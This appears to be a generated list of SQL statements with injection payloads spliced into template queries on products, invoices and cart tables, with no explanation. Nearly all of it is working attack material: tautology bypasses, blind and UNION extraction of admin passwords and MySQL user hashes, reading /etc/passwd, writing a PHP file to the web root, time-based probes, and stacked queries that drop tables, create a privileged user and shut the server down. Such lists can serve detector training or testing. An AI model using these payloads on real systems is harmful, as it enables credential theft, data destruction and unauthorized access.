SELECT u.id, u.login FROM accounts u WHERE u.login = '1' OR '1'='1' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = '1' OR '1'='1'
UPDATE visits SET hits = hits + 1 WHERE page = '1' OR '1'='1' AND site = 4
SELECT id, title, price FROM products WHERE category_id = 1 OR 1=1 AND visible = 1
SELECT * FROM invoices WHERE customer_no=1 OR 1=1
DELETE FROM cart_items WHERE item_id = 1 OR 1=1
SELECT id, title, price FROM products WHERE category_id = 1 OR 1=1-- - AND visible = 1
SELECT * FROM invoices WHERE customer_no=1 OR 1=1-- -
DELETE FROM cart_items WHERE item_id = 1 OR 1=1-- -
SELECT id, title, price FROM products WHERE category_id = 7 OR 2>1 AND visible = 1
SELECT * FROM invoices WHERE customer_no=7 OR 2>1
DELETE FROM cart_items WHERE item_id = 7 OR 2>1
SELECT id, title, price FROM products WHERE category_id = -1 OR 3=3 AND visible = 1
SELECT * FROM invoices WHERE customer_no=-1 OR 3=3
DELETE FROM cart_items WHERE item_id = -1 OR 3=3
SELECT id, title, price FROM products WHERE category_id = 12 OR 'x'='x' AND visible = 1
SELECT * FROM invoices WHERE customer_no=12 OR 'x'='x'
DELETE FROM cart_items WHERE item_id = 12 OR 'x'='x'
SELECT id, title, price FROM products WHERE category_id = 12 OR true-- - AND visible = 1
SELECT * FROM invoices WHERE customer_no=12 OR true-- -
DELETE FROM cart_items WHERE item_id = 12 OR true-- -
SELECT id, title, price FROM products WHERE category_id = 5 AND 1=2 AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 AND 1=2
DELETE FROM cart_items WHERE item_id = 5 AND 1=2
SELECT id, title, price FROM products WHERE category_id = 5 AND 4=4 AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 AND 4=4
DELETE FROM cart_items WHERE item_id = 5 AND 4=4
SELECT id, title, price FROM products WHERE category_id = 5 && 9=9 AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 && 9=9
DELETE FROM cart_items WHERE item_id = 5 && 9=9
SELECT id, title, price FROM products WHERE category_id = 5 || 1=1 AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 || 1=1
DELETE FROM cart_items WHERE item_id = 5 || 1=1
SELECT id, title, price FROM products WHERE category_id = 5 XOR 1=1 AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 XOR 1=1
DELETE FROM cart_items WHERE item_id = 5 XOR 1=1
SELECT id, title, price FROM products WHERE category_id = 5 OR NOT 1=2 AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 OR NOT 1=2
DELETE FROM cart_items WHERE item_id = 5 OR NOT 1=2
SELECT id, title, price FROM products WHERE category_id = 5 OR 1 IN (1,2) AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 OR 1 IN (1,2)
DELETE FROM cart_items WHERE item_id = 5 OR 1 IN (1,2)
SELECT id, title, price FROM products WHERE category_id = 5 OR 3 BETWEEN 1 AND 9 AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 OR 3 BETWEEN 1 AND 9
DELETE FROM cart_items WHERE item_id = 5 OR 3 BETWEEN 1 AND 9
SELECT id, title, price FROM products WHERE category_id = 5 OR 'abc' LIKE 'a%' AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 OR 'abc' LIKE 'a%'
DELETE FROM cart_items WHERE item_id = 5 OR 'abc' LIKE 'a%'
SELECT id, title, price FROM products WHERE category_id = 5 AND (SELECT 1)=1 AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 AND (SELECT 1)=1
DELETE FROM cart_items WHERE item_id = 5 AND (SELECT 1)=1
SELECT id, title, price FROM products WHERE category_id = 5 AND (SELECT COUNT(*) FROM information_schema.tables)>10 AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 AND (SELECT COUNT(*) FROM information_schema.tables)>10
DELETE FROM cart_items WHERE item_id = 5 AND (SELECT COUNT(*) FROM information_schema.tables)>10
SELECT id, title, price FROM products WHERE category_id = 5 AND ASCII(SUBSTRING((SELECT DATABASE()),1,1))>100 AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 AND ASCII(SUBSTRING((SELECT DATABASE()),1,1))>100
DELETE FROM cart_items WHERE item_id = 5 AND ASCII(SUBSTRING((SELECT DATABASE()),1,1))>100
SELECT id, title, price FROM products WHERE category_id = 5 AND ORD(MID((SELECT passwd FROM admins LIMIT 0,1),2,1))=104 AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 AND ORD(MID((SELECT passwd FROM admins LIMIT 0,1),2,1))=104
DELETE FROM cart_items WHERE item_id = 5 AND ORD(MID((SELECT passwd FROM admins LIMIT 0,1),2,1))=104
SELECT id, title, price FROM products WHERE category_id = 5 AND SUBSTRING(@@version,1,1)='8' AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 AND SUBSTRING(@@version,1,1)='8'
DELETE FROM cart_items WHERE item_id = 5 AND SUBSTRING(@@version,1,1)='8'
SELECT id, title, price FROM products WHERE category_id = 5 AND SUBSTR(USER(),1,4)='root' AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 AND SUBSTR(USER(),1,4)='root'
DELETE FROM cart_items WHERE item_id = 5 AND SUBSTR(USER(),1,4)='root'
SELECT id, title, price FROM products WHERE category_id = 5 AND LENGTH(DATABASE())=6 AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 AND LENGTH(DATABASE())=6
DELETE FROM cart_items WHERE item_id = 5 AND LENGTH(DATABASE())=6
SELECT id, title, price FROM products WHERE category_id = 5 AND (SELECT LENGTH(passwd) FROM admins WHERE id=1)>20 AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 AND (SELECT LENGTH(passwd) FROM admins WHERE id=1)>20
DELETE FROM cart_items WHERE item_id = 5 AND (SELECT LENGTH(passwd) FROM admins WHERE id=1)>20
SELECT id, title, price FROM products WHERE category_id = 5 AND IF(ASCII(SUBSTR((SELECT USER()),1,1))>64,1,0) AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 AND IF(ASCII(SUBSTR((SELECT USER()),1,1))>64,1,0)
DELETE FROM cart_items WHERE item_id = 5 AND IF(ASCII(SUBSTR((SELECT USER()),1,1))>64,1,0)
SELECT id, title, price FROM products WHERE category_id = 5 AND (SELECT 'a' FROM admins LIMIT 1)='a' AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 AND (SELECT 'a' FROM admins LIMIT 1)='a'
DELETE FROM cart_items WHERE item_id = 5 AND (SELECT 'a' FROM admins LIMIT 1)='a'
SELECT id, title, price FROM products WHERE category_id = 5 AND EXISTS(SELECT 1 FROM information_schema.tables WHERE table_name='admins') AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 AND EXISTS(SELECT 1 FROM information_schema.tables WHERE table_name='admins')
DELETE FROM cart_items WHERE item_id = 5 AND EXISTS(SELECT 1 FROM information_schema.tables WHERE table_name='admins')
SELECT id, title, price FROM products WHERE category_id = 5 RLIKE (SELECT (CASE WHEN (3=3) THEN 5 ELSE 0x28 END)) AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 RLIKE (SELECT (CASE WHEN (3=3) THEN 5 ELSE 0x28 END))
DELETE FROM cart_items WHERE item_id = 5 RLIKE (SELECT (CASE WHEN (3=3) THEN 5 ELSE 0x28 END))
SELECT id, title, price FROM products WHERE category_id = 5 AND (SELECT CASE WHEN (8=8) THEN 1 ELSE (SELECT table_name FROM information_schema.tables) END)=1 AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 AND (SELECT CASE WHEN (8=8) THEN 1 ELSE (SELECT table_name FROM information_schema.tables) END)=1
DELETE FROM cart_items WHERE item_id = 5 AND (SELECT CASE WHEN (8=8) THEN 1 ELSE (SELECT table_name FROM information_schema.tables) END)=1
SELECT id, title, price FROM products WHERE category_id = 5 AND MAKE_SET(6=6,4) AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 AND MAKE_SET(6=6,4)
DELETE FROM cart_items WHERE item_id = 5 AND MAKE_SET(6=6,4)
SELECT id, title, price FROM products WHERE category_id = (CASE WHEN 4=4 THEN 5 ELSE 0 END) AND visible = 1
SELECT * FROM invoices WHERE customer_no=(CASE WHEN 4=4 THEN 5 ELSE 0 END)
DELETE FROM cart_items WHERE item_id = (CASE WHEN 4=4 THEN 5 ELSE 0 END)
SELECT id, title, price FROM products WHERE category_id = 5*(CASE WHEN (SELECT COUNT(*) FROM mysql.user)>0 THEN 1 ELSE 0 END) AND visible = 1
SELECT * FROM invoices WHERE customer_no=5*(CASE WHEN (SELECT COUNT(*) FROM mysql.user)>0 THEN 1 ELSE 0 END)
DELETE FROM cart_items WHERE item_id = 5*(CASE WHEN (SELECT COUNT(*) FROM mysql.user)>0 THEN 1 ELSE 0 END)
SELECT id, title, price FROM products WHERE category_id = 5 AND (SELECT BINARY SUBSTR(login,1,1) FROM accounts LIMIT 1)=BINARY 'a' AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 AND (SELECT BINARY SUBSTR(login,1,1) FROM accounts LIMIT 1)=BINARY 'a'
DELETE FROM cart_items WHERE item_id = 5 AND (SELECT BINARY SUBSTR(login,1,1) FROM accounts LIMIT 1)=BINARY 'a'
SELECT id, title, price FROM products WHERE category_id = 5 AND DATABASE() LIKE 's%' AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 AND DATABASE() LIKE 's%'
DELETE FROM cart_items WHERE item_id = 5 AND DATABASE() LIKE 's%'
SELECT id, title, price FROM products WHERE category_id = 5 AND @@version LIKE '%maria%' AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 AND @@version LIKE '%maria%'
DELETE FROM cart_items WHERE item_id = 5 AND @@version LIKE '%maria%'
SELECT id, title, price FROM products WHERE category_id = 5 AND (SELECT user FROM mysql.user LIMIT 1) REGEXP '^r' AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 AND (SELECT user FROM mysql.user LIMIT 1) REGEXP '^r'
DELETE FROM cart_items WHERE item_id = 5 AND (SELECT user FROM mysql.user LIMIT 1) REGEXP '^r'
SELECT id, title, price FROM products WHERE category_id = 5 AND CRC32((SELECT USER()))=123 AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 AND CRC32((SELECT USER()))=123
DELETE FROM cart_items WHERE item_id = 5 AND CRC32((SELECT USER()))=123
SELECT id, title, price FROM products WHERE category_id = 5 HAVING 1=1 AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 HAVING 1=1
DELETE FROM cart_items WHERE item_id = 5 HAVING 1=1
SELECT id, title, price FROM products WHERE category_id = 5 GROUP BY id HAVING 4=4 AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 GROUP BY id HAVING 4=4
DELETE FROM cart_items WHERE item_id = 5 GROUP BY id HAVING 4=4
SELECT id, title, price FROM products WHERE category_id = -1 UNION SELECT NULL,NULL,NULL AND visible = 1
SELECT * FROM invoices WHERE customer_no=-1 UNION SELECT NULL,NULL,NULL
DELETE FROM cart_items WHERE item_id = -1 UNION SELECT NULL,NULL,NULL
SELECT id, title, price FROM products WHERE category_id = -1 UNION ALL SELECT NULL,NULL,NULL-- - AND visible = 1
SELECT * FROM invoices WHERE customer_no=-1 UNION ALL SELECT NULL,NULL,NULL-- -
DELETE FROM cart_items WHERE item_id = -1 UNION ALL SELECT NULL,NULL,NULL-- -
SELECT id, title, price FROM products WHERE category_id = -1 UNION SELECT 1,2,3 AND visible = 1
SELECT * FROM invoices WHERE customer_no=-1 UNION SELECT 1,2,3
DELETE FROM cart_items WHERE item_id = -1 UNION SELECT 1,2,3
SELECT id, title, price FROM products WHERE category_id = 0 UNION SELECT 1,@@version,3-- - AND visible = 1
SELECT * FROM invoices WHERE customer_no=0 UNION SELECT 1,@@version,3-- -
DELETE FROM cart_items WHERE item_id = 0 UNION SELECT 1,@@version,3-- -
SELECT id, title, price FROM products WHERE category_id = 0 UNION SELECT 1,user(),database() AND visible = 1
SELECT * FROM invoices WHERE customer_no=0 UNION SELECT 1,user(),database()
DELETE FROM cart_items WHERE item_id = 0 UNION SELECT 1,user(),database()
SELECT id, title, price FROM products WHERE category_id = -5 UNION SELECT 1,table_name,3 FROM information_schema.tables-- - AND visible = 1
SELECT * FROM invoices WHERE customer_no=-5 UNION SELECT 1,table_name,3 FROM information_schema.tables-- -
DELETE FROM cart_items WHERE item_id = -5 UNION SELECT 1,table_name,3 FROM information_schema.tables-- -
SELECT id, title, price FROM products WHERE category_id = -5 UNION ALL SELECT 1,GROUP_CONCAT(column_name),3 FROM information_schema.columns WHERE table_name=0x61646d696e73 AND visible = 1
SELECT * FROM invoices WHERE customer_no=-5 UNION ALL SELECT 1,GROUP_CONCAT(column_name),3 FROM information_schema.columns WHERE table_name=0x61646d696e73
DELETE FROM cart_items WHERE item_id = -5 UNION ALL SELECT 1,GROUP_CONCAT(column_name),3 FROM information_schema.columns WHERE table_name=0x61646d696e73
SELECT id, title, price FROM products WHERE category_id = -5 UNION SELECT NULL,CONCAT(login,0x3a,pw_hash),NULL FROM accounts AND visible = 1
SELECT * FROM invoices WHERE customer_no=-5 UNION SELECT NULL,CONCAT(login,0x3a,pw_hash),NULL FROM accounts
DELETE FROM cart_items WHERE item_id = -5 UNION SELECT NULL,CONCAT(login,0x3a,pw_hash),NULL FROM accounts
SELECT id, title, price FROM products WHERE category_id = -5 UNION SELECT id,login,password FROM admins AND visible = 1
SELECT * FROM invoices WHERE customer_no=-5 UNION SELECT id,login,password FROM admins
DELETE FROM cart_items WHERE item_id = -5 UNION SELECT id,login,password FROM admins
SELECT id, title, price FROM products WHERE category_id = -5 UNION DISTINCT SELECT 1,LOAD_FILE('/etc/passwd'),3 AND visible = 1
SELECT * FROM invoices WHERE customer_no=-5 UNION DISTINCT SELECT 1,LOAD_FILE('/etc/passwd'),3
DELETE FROM cart_items WHERE item_id = -5 UNION DISTINCT SELECT 1,LOAD_FILE('/etc/passwd'),3
SELECT id, title, price FROM products WHERE category_id = -5 UNION SELECT 1,(SELECT password FROM admins LIMIT 1),3 AND visible = 1
SELECT * FROM invoices WHERE customer_no=-5 UNION SELECT 1,(SELECT password FROM admins LIMIT 1),3
DELETE FROM cart_items WHERE item_id = -5 UNION SELECT 1,(SELECT password FROM admins LIMIT 1),3
SELECT id, title, price FROM products WHERE category_id = -5 UNION SELECT 'a','b','c'-- - AND visible = 1
SELECT * FROM invoices WHERE customer_no=-5 UNION SELECT 'a','b','c'-- -
DELETE FROM cart_items WHERE item_id = -5 UNION SELECT 'a','b','c'-- -
SELECT id, title, price FROM products WHERE category_id = -5 UNION SELECT CONCAT('~',USER(),'~'),NULL,NULL AND visible = 1
SELECT * FROM invoices WHERE customer_no=-5 UNION SELECT CONCAT('~',USER(),'~'),NULL,NULL
DELETE FROM cart_items WHERE item_id = -5 UNION SELECT CONCAT('~',USER(),'~'),NULL,NULL
SELECT id, title, price FROM products WHERE category_id = -5/**/UNION/**/SELECT/**/1,2,3 AND visible = 1
SELECT * FROM invoices WHERE customer_no=-5/**/UNION/**/SELECT/**/1,2,3
DELETE FROM cart_items WHERE item_id = -5/**/UNION/**/SELECT/**/1,2,3
SELECT id, title, price FROM products WHERE category_id = -5 /*!UNION*/ /*!SELECT*/ 1,2,3 AND visible = 1
SELECT * FROM invoices WHERE customer_no=-5 /*!UNION*/ /*!SELECT*/ 1,2,3
DELETE FROM cart_items WHERE item_id = -5 /*!UNION*/ /*!SELECT*/ 1,2,3
SELECT id, title, price FROM products WHERE category_id = -5 /*!50000UNION*/ /*!50000ALL*/ /*!50000SELECT*/ 1,version(),3 AND visible = 1
SELECT * FROM invoices WHERE customer_no=-5 /*!50000UNION*/ /*!50000ALL*/ /*!50000SELECT*/ 1,version(),3
DELETE FROM cart_items WHERE item_id = -5 /*!50000UNION*/ /*!50000ALL*/ /*!50000SELECT*/ 1,version(),3
SELECT id, title, price FROM products WHERE category_id = -5 UnIoN aLl SeLeCt 1,2,3# AND visible = 1
SELECT * FROM invoices WHERE customer_no=-5 UnIoN aLl SeLeCt 1,2,3#
DELETE FROM cart_items WHERE item_id = -5 UnIoN aLl SeLeCt 1,2,3#
SELECT id, title, price FROM products WHERE category_id = -5 UNION SELECT * FROM (SELECT 1)a JOIN (SELECT 2)b JOIN (SELECT 3)c AND visible = 1
SELECT * FROM invoices WHERE customer_no=-5 UNION SELECT * FROM (SELECT 1)a JOIN (SELECT 2)b JOIN (SELECT 3)c
DELETE FROM cart_items WHERE item_id = -5 UNION SELECT * FROM (SELECT 1)a JOIN (SELECT 2)b JOIN (SELECT 3)c
SELECT id, title, price FROM products WHERE category_id = 5 ORDER BY 10-- - AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 ORDER BY 10-- -
DELETE FROM cart_items WHERE item_id = 5 ORDER BY 10-- -
SELECT id, title, price FROM products WHERE category_id = 5 ORDER BY 100 AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 ORDER BY 100
DELETE FROM cart_items WHERE item_id = 5 ORDER BY 100
SELECT id, title, price FROM products WHERE category_id = -5 UNION SELECT user,authentication_string,3 FROM mysql.user AND visible = 1
SELECT * FROM invoices WHERE customer_no=-5 UNION SELECT user,authentication_string,3 FROM mysql.user
DELETE FROM cart_items WHERE item_id = -5 UNION SELECT user,authentication_string,3 FROM mysql.user
SELECT id, title, price FROM products WHERE category_id = -5 UNION SELECT CHAR(97,98,99),2,3 AND visible = 1
SELECT * FROM invoices WHERE customer_no=-5 UNION SELECT CHAR(97,98,99),2,3
DELETE FROM cart_items WHERE item_id = -5 UNION SELECT CHAR(97,98,99),2,3
SELECT id, title, price FROM products WHERE category_id = -5 UNION SELECT 1,HEX(login),3 FROM accounts-- - AND visible = 1
SELECT * FROM invoices WHERE customer_no=-5 UNION SELECT 1,HEX(login),3 FROM accounts-- -
DELETE FROM cart_items WHERE item_id = -5 UNION SELECT 1,HEX(login),3 FROM accounts-- -
SELECT id, title, price FROM products WHERE category_id = -5 UNION SELECT 1,2,3 INTO OUTFILE '/var/www/x.php' AND visible = 1
SELECT * FROM invoices WHERE customer_no=-5 UNION SELECT 1,2,3 INTO OUTFILE '/var/www/x.php'
DELETE FROM cart_items WHERE item_id = -5 UNION SELECT 1,2,3 INTO OUTFILE '/var/www/x.php'
SELECT id, title, price FROM products WHERE category_id = 5 AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT @@version),0x7e)) AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT @@version),0x7e))
DELETE FROM cart_items WHERE item_id = 5 AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT @@version),0x7e))
SELECT id, title, price FROM products WHERE category_id = 5 AND UPDATEXML(1,CONCAT(0x7e,(SELECT USER())),1) AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 AND UPDATEXML(1,CONCAT(0x7e,(SELECT USER())),1)
DELETE FROM cart_items WHERE item_id = 5 AND UPDATEXML(1,CONCAT(0x7e,(SELECT USER())),1)
SELECT id, title, price FROM products WHERE category_id = 5 OR UPDATEXML(NULL,CONCAT('~',DATABASE()),NULL) AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 OR UPDATEXML(NULL,CONCAT('~',DATABASE()),NULL)
DELETE FROM cart_items WHERE item_id = 5 OR UPDATEXML(NULL,CONCAT('~',DATABASE()),NULL)
SELECT id, title, price FROM products WHERE category_id = 5 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT((SELECT DATABASE()),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)y) AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT((SELECT DATABASE()),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)y)
DELETE FROM cart_items WHERE item_id = 5 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT((SELECT DATABASE()),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)y)
SELECT id, title, price FROM products WHERE category_id = 5 AND EXP(~(SELECT * FROM (SELECT USER())a)) AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 AND EXP(~(SELECT * FROM (SELECT USER())a))
DELETE FROM cart_items WHERE item_id = 5 AND EXP(~(SELECT * FROM (SELECT USER())a))
SELECT id, title, price FROM products WHERE category_id = 5 AND GTID_SUBSET(CONCAT(0x7e,(SELECT VERSION())),1) AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 AND GTID_SUBSET(CONCAT(0x7e,(SELECT VERSION())),1)
DELETE FROM cart_items WHERE item_id = 5 AND GTID_SUBSET(CONCAT(0x7e,(SELECT VERSION())),1)
SELECT id, title, price FROM products WHERE category_id = 5 AND JSON_KEYS((SELECT CONVERT((SELECT CONCAT(0x7e,USER())) USING utf8))) AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 AND JSON_KEYS((SELECT CONVERT((SELECT CONCAT(0x7e,USER())) USING utf8)))
DELETE FROM cart_items WHERE item_id = 5 AND JSON_KEYS((SELECT CONVERT((SELECT CONCAT(0x7e,USER())) USING utf8)))
SELECT id, title, price FROM products WHERE category_id = 5 AND ST_LatFromGeoHash(CONCAT(0x7e,(SELECT USER()))) AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 AND ST_LatFromGeoHash(CONCAT(0x7e,(SELECT USER())))
DELETE FROM cart_items WHERE item_id = 5 AND ST_LatFromGeoHash(CONCAT(0x7e,(SELECT USER())))
SELECT id, title, price FROM products WHERE category_id = 5 AND POLYGON((SELECT * FROM(SELECT * FROM(SELECT USER())a)b)) AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 AND POLYGON((SELECT * FROM(SELECT * FROM(SELECT USER())a)b))
DELETE FROM cart_items WHERE item_id = 5 AND POLYGON((SELECT * FROM(SELECT * FROM(SELECT USER())a)b))
SELECT id, title, price FROM products WHERE category_id = 5 AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT('~',VERSION()))s),8446744073709551610,8446744073709551610))) AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT('~',VERSION()))s),8446744073709551610,8446744073709551610)))
DELETE FROM cart_items WHERE item_id = 5 AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT('~',VERSION()))s),8446744073709551610,8446744073709551610)))
SELECT id, title, price FROM products WHERE category_id = 5 AND ROW(1,1)>(SELECT COUNT(*),CONCAT(VERSION(),FLOOR(RAND(0)*2))x FROM (SELECT 1 UNION SELECT 2)a GROUP BY x LIMIT 1) AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 AND ROW(1,1)>(SELECT COUNT(*),CONCAT(VERSION(),FLOOR(RAND(0)*2))x FROM (SELECT 1 UNION SELECT 2)a GROUP BY x LIMIT 1)
DELETE FROM cart_items WHERE item_id = 5 AND ROW(1,1)>(SELECT COUNT(*),CONCAT(VERSION(),FLOOR(RAND(0)*2))x FROM (SELECT 1 UNION SELECT 2)a GROUP BY x LIMIT 1)
SELECT id, title, price FROM products WHERE category_id = 5 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x7e,VERSION())),1) AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x7e,VERSION())),1)
DELETE FROM cart_items WHERE item_id = 5 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x7e,VERSION())),1)
SELECT id, title, price FROM products WHERE category_id = 5 AND (SELECT * FROM (SELECT NAME_CONST(VERSION(),1),NAME_CONST(VERSION(),1))a) AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 AND (SELECT * FROM (SELECT NAME_CONST(VERSION(),1),NAME_CONST(VERSION(),1))a)
DELETE FROM cart_items WHERE item_id = 5 AND (SELECT * FROM (SELECT NAME_CONST(VERSION(),1),NAME_CONST(VERSION(),1))a)
SELECT id, title, price FROM products WHERE category_id = !(SELECT*FROM(SELECT USER())x)-~0 AND visible = 1
SELECT * FROM invoices WHERE customer_no=!(SELECT*FROM(SELECT USER())x)-~0
DELETE FROM cart_items WHERE item_id = !(SELECT*FROM(SELECT USER())x)-~0
SELECT id, title, price FROM products WHERE category_id = 5 AND SLEEP(5) AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 AND SLEEP(5)
DELETE FROM cart_items WHERE item_id = 5 AND SLEEP(5)
SELECT id, title, price FROM products WHERE category_id = 5 OR SLEEP(3)-- - AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 OR SLEEP(3)-- -
DELETE FROM cart_items WHERE item_id = 5 OR SLEEP(3)-- -
SELECT id, title, price FROM products WHERE category_id = SLEEP(5) AND visible = 1
SELECT * FROM invoices WHERE customer_no=SLEEP(5)
DELETE FROM cart_items WHERE item_id = SLEEP(5)
SELECT id, title, price FROM products WHERE category_id = 5-SLEEP(5) AND visible = 1
SELECT * FROM invoices WHERE customer_no=5-SLEEP(5)
DELETE FROM cart_items WHERE item_id = 5-SLEEP(5)
SELECT id, title, price FROM products WHERE category_id = 5 AND IF(1=1,SLEEP(5),0) AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 AND IF(1=1,SLEEP(5),0)
DELETE FROM cart_items WHERE item_id = 5 AND IF(1=1,SLEEP(5),0)
SELECT id, title, price FROM products WHERE category_id = 5 AND (SELECT * FROM (SELECT SLEEP(5))a) AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 AND (SELECT * FROM (SELECT SLEEP(5))a)
DELETE FROM cart_items WHERE item_id = 5 AND (SELECT * FROM (SELECT SLEEP(5))a)
SELECT id, title, price FROM products WHERE category_id = (SELECT SLEEP(5)) AND visible = 1
SELECT * FROM invoices WHERE customer_no=(SELECT SLEEP(5))
DELETE FROM cart_items WHERE item_id = (SELECT SLEEP(5))
SELECT id, title, price FROM products WHERE category_id = 5 AND BENCHMARK(5000000,MD5('a')) AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 AND BENCHMARK(5000000,MD5('a'))
DELETE FROM cart_items WHERE item_id = 5 AND BENCHMARK(5000000,MD5('a'))
SELECT id, title, price FROM products WHERE category_id = 5 AND IF(SUBSTR(DATABASE(),1,1)='s',BENCHMARK(1000000,SHA1(1)),0) AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 AND IF(SUBSTR(DATABASE(),1,1)='s',BENCHMARK(1000000,SHA1(1)),0)
DELETE FROM cart_items WHERE item_id = 5 AND IF(SUBSTR(DATABASE(),1,1)='s',BENCHMARK(1000000,SHA1(1)),0)
SELECT id, title, price FROM products WHERE category_id = 5 AND (SELECT COUNT(*) FROM information_schema.columns A, information_schema.columns B, information_schema.columns C) AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 AND (SELECT COUNT(*) FROM information_schema.columns A, information_schema.columns B, information_schema.columns C)
DELETE FROM cart_items WHERE item_id = 5 AND (SELECT COUNT(*) FROM information_schema.columns A, information_schema.columns B, information_schema.columns C)
SELECT id, title, price FROM products WHERE category_id = 5 AND GET_LOCK('a',10) AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 AND GET_LOCK('a',10)
DELETE FROM cart_items WHERE item_id = 5 AND GET_LOCK('a',10)
SELECT id, title, price FROM products WHERE category_id = CASE WHEN (1=1) THEN SLEEP(2) ELSE 5 END AND visible = 1
SELECT * FROM invoices WHERE customer_no=CASE WHEN (1=1) THEN SLEEP(2) ELSE 5 END
DELETE FROM cart_items WHERE item_id = CASE WHEN (1=1) THEN SLEEP(2) ELSE 5 END
SELECT id, title, price FROM products WHERE category_id = 5 AND 1=(SELECT 1 FROM (SELECT SLEEP(4))x) AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 AND 1=(SELECT 1 FROM (SELECT SLEEP(4))x)
DELETE FROM cart_items WHERE item_id = 5 AND 1=(SELECT 1 FROM (SELECT SLEEP(4))x)
SELECT id, title, price FROM products WHERE category_id = 5; DROP TABLE accounts AND visible = 1
SELECT * FROM invoices WHERE customer_no=5; DROP TABLE accounts
DELETE FROM cart_items WHERE item_id = 5; DROP TABLE accounts
SELECT id, title, price FROM products WHERE category_id = 5; DROP TABLE accounts-- - AND visible = 1
SELECT * FROM invoices WHERE customer_no=5; DROP TABLE accounts-- -
DELETE FROM cart_items WHERE item_id = 5; DROP TABLE accounts-- -
SELECT id, title, price FROM products WHERE category_id = 5;INSERT INTO admins (login) VALUES ('eve') AND visible = 1
SELECT * FROM invoices WHERE customer_no=5;INSERT INTO admins (login) VALUES ('eve')
DELETE FROM cart_items WHERE item_id = 5;INSERT INTO admins (login) VALUES ('eve')
SELECT id, title, price FROM products WHERE category_id = 5; SELECT SLEEP(5) AND visible = 1
SELECT * FROM invoices WHERE customer_no=5; SELECT SLEEP(5)
DELETE FROM cart_items WHERE item_id = 5; SELECT SLEEP(5)
SELECT id, title, price FROM products WHERE category_id = 5; UPDATE accounts SET role='admin' WHERE id=7-- - AND visible = 1
SELECT * FROM invoices WHERE customer_no=5; UPDATE accounts SET role='admin' WHERE id=7-- -
DELETE FROM cart_items WHERE item_id = 5; UPDATE accounts SET role='admin' WHERE id=7-- -
SELECT id, title, price FROM products WHERE category_id = 5; SHUTDOWN AND visible = 1
SELECT * FROM invoices WHERE customer_no=5; SHUTDOWN
DELETE FROM cart_items WHERE item_id = 5; SHUTDOWN
SELECT id, title, price FROM products WHERE category_id = 5; GRANT ALL ON *.* TO eve AND visible = 1
SELECT * FROM invoices WHERE customer_no=5; GRANT ALL ON *.* TO eve
DELETE FROM cart_items WHERE item_id = 5; GRANT ALL ON *.* TO eve
SELECT id, title, price FROM products WHERE category_id = 5; CREATE USER eve IDENTIFIED BY 'x' AND visible = 1
SELECT * FROM invoices WHERE customer_no=5; CREATE USER eve IDENTIFIED BY 'x'
DELETE FROM cart_items WHERE item_id = 5; CREATE USER eve IDENTIFIED BY 'x'
